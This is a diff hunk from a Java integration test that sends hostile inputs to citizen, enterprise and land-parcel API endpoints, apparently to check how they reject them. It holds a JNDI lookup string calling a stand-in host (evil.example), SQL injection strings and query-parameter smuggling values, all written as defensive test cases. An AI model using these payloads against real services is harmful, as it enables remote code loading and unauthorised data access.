@@ -93,7 +93,7 @@ class HostileInputIT extends HubIT {
         cases.add(lookupCase("citizen JNDI lookup", "/api/v1/citizens/" + enc("${jndi:ldap://evil.example/a}"), null));
         cases.add(lookupCase("enterprise query injection", "/api/v1/enterprises/" + enc("0100233488&msdn=3700987651"), ENTERPRISE));
         cases.add(lookupCase("enterprise SQL", "/api/v1/enterprises/" + enc("0100233488' OR '1'='1"), ENTERPRISE));
-        cases.add(lookupCase("land query injection", "/api/v1/land-parcels/25747/12/" + enc("345&soThua=1"), LAND));
+        cases.add(lookupCase("land query injection", "/api/v1/land-parcels/25747/12/" + enc("345&soThuTuThua=1"), LAND));
         cases.add(lookupCase("land SQL in commune", "/api/v1/land-parcels/" + enc("1 OR 1=1") + "/12/345", LAND));
         cases.add(lookupCase("land sheet over int", "/api/v1/land-parcels/25747/99999999999/345", LAND));
         cases.add(lookupCase("land negative parcel", "/api/v1/land-parcels/25747/12/-345", LAND));
